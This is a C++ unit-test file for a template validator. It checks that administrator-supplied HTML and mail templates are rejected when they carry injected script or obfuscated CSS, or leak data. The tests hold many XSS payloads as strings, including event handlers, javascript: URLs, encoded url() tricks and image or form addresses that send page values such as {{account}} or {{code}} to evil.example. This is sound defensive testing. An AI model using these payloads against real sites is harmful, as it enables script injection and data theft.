#include "view/template_check.hpp"

#include "view/fixtures.hpp"
#include "view/pages.hpp"

#include <fmt/format.h>
#include <gtest/gtest.h>

namespace gatehouse::view {
namespace {

class OwnTemplates : public testing::Test {
protected:
    static Pages const& pages()
    {
        static auto const made = Pages::create({});
        return **made;
    }
    static Result<std::shared_ptr<Templates const>> use(std::string const& name, std::string const& source)
    {
        return pages().with_templates({{name, source}}, "/templates");
    }
    static std::string changed(std::string const& name, std::string_view from, std::string_view to)
    {
        auto source = *pages().source_of(name);
        auto const at = source.find(from);
        EXPECT_NE(at, source.npos) << from;
        return at == source.npos ? source : source.replace(at, from.size(), to);
    }
};

TEST_F(OwnTemplates, TheBuiltInOnesMayBeUsedAsTheyAre)
{
    for (auto const& name : replaceable_templates()) {
        auto const same = use(name, *pages().source_of(name));
        EXPECT_TRUE(same) << name << ": " << (same ? "" : same.error().message);
    }
}

TEST_F(OwnTemplates, WordsAndMarkupOfOnesOwnAreShown)
{
    auto const own = use("partials/foot.html", "<footer class=\"foot\"><p>Made by {{brand_name}}. <a "
                                               "href=\"https://acme.example/imprint\">Imprint</a></p></footer>");
    ASSERT_TRUE(own) << own.error().message;
    auto context = fixture_context(pages().locales().fallback());
    context.templates = own->get();
    auto const html = render(pages(), page_fixtures().front(), context);
    EXPECT_NE(html.find("Made by Acme. <a href=\"https://acme.example/imprint\">"), html.npos);
    EXPECT_NE(html.find("name=\"csrf\""), html.npos);
    context.templates = nullptr;
    EXPECT_EQ(render(pages(), page_fixtures().front(), context).find("imprint"), html.npos);
}

TEST_F(OwnTemplates, AMistakeIsRefusedWithItsPlace)
{
    auto const refused = use("partials/brand.html", "<p>\n  {{brand_name}}\n  [[no.such_text]]\n</p>");
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, "invalid_template");
    EXPECT_EQ(refused.error().pointer, "/templates/partials~1brand.html");
    EXPECT_TRUE(refused.error().message.starts_with("Line 3:")) << refused.error().message;
    auto const unknown = use("partials/brand.html", "<p>\n{{weather}}</p>");
    ASSERT_FALSE(unknown);
    EXPECT_TRUE(unknown.error().message.starts_with("Line 2:")) << unknown.error().message;
    EXPECT_FALSE(use("partials/head.html", "<title>x</title>")) << "not one of those that may be replaced";
}

TEST_F(OwnTemplates, AnAdministratorCannotPutScriptOrAnUnescapedMarkerIntoAPage)
{
    for (auto const* attack : {
             "<script>alert(1)</script>",
             "<SCRIPT src=\"/x.js\"></SCRIPT>",
             "<p onclick=\"alert(1)\">x</p>",
             "<img src=\"/x.png\" onerror=\"alert(1)\">",
             "<img src=x onerror=alert(1)>",
             "<a href=\"javascript:alert(1)\">x</a>",
             "<a href=\"java\nscript:alert(1)\">x</a>",
             "<a href=\"&#106;avascript:alert(1)\">x</a>",
             "<a href=\"data:text/html,x\">x</a>",
             "<a href=\"//evil.example\">x</a>",
             "<iframe src=\"/\"></iframe>",
             "<object data=\"/x\"></object>",
             "<base href=\"https://evil.example/\">",
             "<meta http-equiv=\"refresh\" content=\"0\">",
             "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
             "<style>body{background:url(https://evil.example)}</style>",
             "<p style=\"background:red\">x</p>",
             "<svg><script>alert(1)</script></svg>",
             "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
             "<svg onload=\"alert(1)\"></svg>",
             "<math></math>",
             "<p>{{brand_name:none}}</p>",
             "<p>{{{brand_name}}}</p>",
             "{{=<% %>=}}",
             "{{%AUTOESCAPE context=\"TXT\"}}",
             "{{! <script> }}",
             "{{>partials/head.html}}",
             "<{{brand_name}}>",
             "<p {{brand_name}}>x</p>",
             "<p class={{brand_name}}>x</p>",
             "<p title='{{brand_name}}'>x</p>",
             "<!-- hidden -->",
             "<![CDATA[x]]>",
             "<p>x",
             "</p>",
             "<p>{{#brand_logo}}</p>{{/brand_logo}}",
         }) {
        auto const refused = use("partials/brand.html", attack);
        ASSERT_FALSE(refused) << attack;
        EXPECT_EQ(refused.error().code, "invalid_template") << attack;
    }
}

TEST_F(OwnTemplates, SectionsOfNoTextHideNothingFromTheCheck)
{
    for (auto const* attack : {
             // Opened in a tag, closed outside: what is between them is seen as something else.
             "<p{{#brand_logo}}>{{/brand_logo}} title=\"x\">x</p>",
             "<p title=\"{{#brand_logo}}\">{{/brand_logo}}\">x</p>",
             "<p {{#brand_logo}}title=\"{{/brand_logo}}x\">x</p>",
             "{{#brand_logo}}<p {{/brand_logo}}>x</p>",
             "<p title=\"{{#brand_logo}}\" class=\"{{/brand_logo}}\">x</p>",
             // Joined to another word than was read.
             "<s{{#brand_logo}}{{/brand_logo}}title=\"x\">x</s>",
             "<p title=\"x\"class=\"x\">x</p>",
             // An address of another site.
             "<a href=\"/{{#brand_logo}}{{/brand_logo}}/evil.example\">x</a>",
             "<a href=\"{{#brand_logo}}https://evil.example{{/brand_logo}}\">x</a>",
             "<svg><path fill=\"url(https://evil.example/x)\"/></svg>",
         })
        EXPECT_FALSE(use("partials/brand.html", attack)) << attack;
    EXPECT_TRUE(use("partials/brand.html",
                    "<p{{#brand_logo}} class=\"brand\"{{/brand_logo}} "
                    "title=\"x{{#brand_logo}} y{{/brand_logo}}\"><a href=\"{{home}}\">{{brand_name}}</a></p>"));
}

TEST_F(OwnTemplates, WhatPeopleTypedIsNeitherAnAddressNorAStyle)
{
    for (auto const* marker : {"brand_name", "application", "lang", "title"})
        EXPECT_FALSE(use("partials/brand.html", fmt::format("<a href=\"{{{{{}}}}}\">x</a>", marker))) << marker;
    auto const mail = [](std::string const& markup) {
        return use("mail/message.html", changed("mail/message.html", "{{footer}}", markup));
    };
    EXPECT_FALSE(mail("<a href=\"{{intro}}\">x</a>"));
    EXPECT_FALSE(mail("<p style=\"color:{{heading}}\">x</p>"));
    EXPECT_FALSE(mail("<p style=\"background:{{sender_name}}\">x</p>"));
    EXPECT_TRUE(mail("<p style=\"color:{{soft}}\">{{footer}}</p>"));
}

TEST_F(OwnTemplates, AStyleFetchesNothingHoweverItIsWritten)
{
    auto const mail = [](std::string_view from, std::string const& to) {
        return use("mail/message.html", changed("mail/message.html", from, to));
    };
    for (auto const* style : {
             "background:url(https://evil.example)",
             "background:ur{{#code}}{{/code}}l(https://evil.example)",
             "background:u&#114;l(https://evil.example)",
             "background:u&#x72;l(https://evil.example)",
             "background:u\\72l(https://evil.example)",
             "background:image-set('https://evil.example' 1x)",
             "background:u/**/rl(https://evil.example)",
             "width:expr{{#code}}{{/code}}ession(alert(1))",
         }) {
        EXPECT_FALSE(mail("{{footer}}", fmt::format("<p style=\"{}\">x</p>", style))) << style;
        EXPECT_FALSE(mail(".dark-logo{display:none}", fmt::format(".x{{{}}}", style))) << style;
    }
    EXPECT_FALSE(mail(".dark-logo{display:none}", "@imp{{#code}}{{/code}}ort 'https://evil.example';"));
}

TEST_F(OwnTemplates, NothingThatAPageKnowsLeavesByAnAddress)
{
    for (auto const* attack : {
             "<img src=\"https://evil.example/{{account}}\" alt=\"\">",
             "<img src=\"https://evil.example/x.png\" alt=\"\">",
             "<img src=\"/x?{{brand_name}}\" alt=\"\">",
             "<img src=\"{{brand_name}}\" alt=\"\">",
             "<a href=\"https://evil.example/?{{brand_name}}\">x</a>",
         })
        EXPECT_FALSE(use("partials/brand.html", attack)) << attack;
    EXPECT_FALSE(use("mail/message.html", changed("mail/message.html", "{{footer}}",
                                                  "<img src=\"https://evil.example/{{code}}\" alt=\"\">")));
}

TEST_F(OwnTemplates, TheTokenFieldsAndButtonsOfAPageCannotBeTakenAway)
{
    auto const form = std::string("[[> partials/form.html]]");
    for (auto const& source : {
             changed("step.html", form, ""),
             changed("step.html", form, "{{#application}}" + form + "{{/application}}"),
             changed("step.html", form, form + form),
             changed("step.html", form, "<form method=\"post\" action=\"https://evil.example\">" + form + "</form>"),
             changed("step.html", form, "<input name=\"x\">" + form),
             changed("step.html", form, "[[> partials/field.html]]"),
             changed("step.html", "[[> partials/account.html]]", ""),
             changed("step.html", "[[> partials/head.html]]", ""),
             changed("step.html", "<h1>{{title}}</h1>", "<p>{{title}}</p>"),
         })
        EXPECT_FALSE(use("step.html", source)) << source;
    EXPECT_FALSE(use("portal.html", changed("portal.html", "href=\"{{sign_out}}\"", "href=\"/\"")));
    EXPECT_TRUE(use("step.html", changed("step.html", form, "<div class=\"panel\">" + form + "</div>")));
}

TEST_F(OwnTemplates, AMailKeepsItsCodeAndLink)
{
    EXPECT_FALSE(use("mail/message.txt", "{{heading}}\n{{#code}}{{code}}{{/code}}\n"));
    EXPECT_FALSE(use("mail/message.txt", "{{heading}}\n{{#link}}{{link}}{{/link}}\n"));
    EXPECT_TRUE(use("mail/message.txt", "{{heading}}\n{{#code}}{{code}}{{/code}}{{#link}}{{link}}{{/link}}\nBye\n"));
}

} // namespace
} // namespace gatehouse::view
